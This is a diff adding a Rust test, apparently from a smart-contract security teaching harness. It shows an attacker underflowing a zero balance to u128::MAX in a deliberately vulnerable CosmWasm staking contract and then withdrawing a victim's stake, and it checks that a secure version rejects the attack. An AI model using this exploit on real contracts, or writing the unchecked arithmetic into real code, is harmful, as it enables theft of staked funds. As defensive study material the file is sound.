@@ -0,0 +1,78 @@
+//! Wrapping a zero balance to u128::MAX and withdrawing other users' stake
+
+use anyhow::{ensure, Result as AnyResult};
+use cosmwasm_std::{coins, Empty};
+use cw_multi_test::{Contract, ContractWrapper};
+
+use crate::contracts::raw_math_overflow::{
+    execute, instantiate, query, secure, ExecuteMsg, InstantiateMsg,
+};
+use crate::{ExploitSpec, Harness, ATOM};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "raw_math_overflow",
+    description: "Transfer from a zero balance underflows to u128::MAX",
+    must_succeed: || attack(vulnerable),
+    must_fail: || attack(secure),
+    rejection: "Cannot Sub with given operands",
+};
+
+fn vulnerable() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(execute, instantiate, query))
+}
+
+fn secure() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(
+        secure::execute,
+        secure::instantiate,
+        secure::query,
+    ))
+}
+
+fn attack(code: fn() -> Box<dyn Contract<Empty>>) -> AnyResult<()> {
+    let mut h = Harness::new();
+    let (attacker, victim) = (h.attacker.clone(), h.victim.clone());
+    let accomplice = h.account("accomplice");
+
+    let staking = h.deploy(
+        code(),
+        &InstantiateMsg {
+            denom: ATOM.to_string(),
+            reward_rate: 1,
+        },
+        &[],
+        "staking",
+    )?;
+    h.execute(
+        &victim,
+        &staking,
+        &ExecuteMsg::Stake {},
+        &coins(1_000_000, ATOM),
+    )?;
+
+    // 0 - 1 wraps (the harness builds without overflow-checks, like the
+    // deployed contract would)
+    h.execute(
+        &attacker,
+        &staking,
+        &ExecuteMsg::Transfer {
+            recipient: accomplice.to_string(),
+            amount: 1,
+        },
+        &[],
+    )?;
+
+    let before = h.balance(&attacker, ATOM);
+    h.execute(
+        &attacker,
+        &staking,
+        &ExecuteMsg::Withdraw { amount: 1_000_000 },
+        &[],
+    )?;
+
+    ensure!(
+        h.balance(&attacker, ATOM) == before + 1_000_000,
+        "attacker could not withdraw the victim's stake"
+    );
+    Ok(())
+}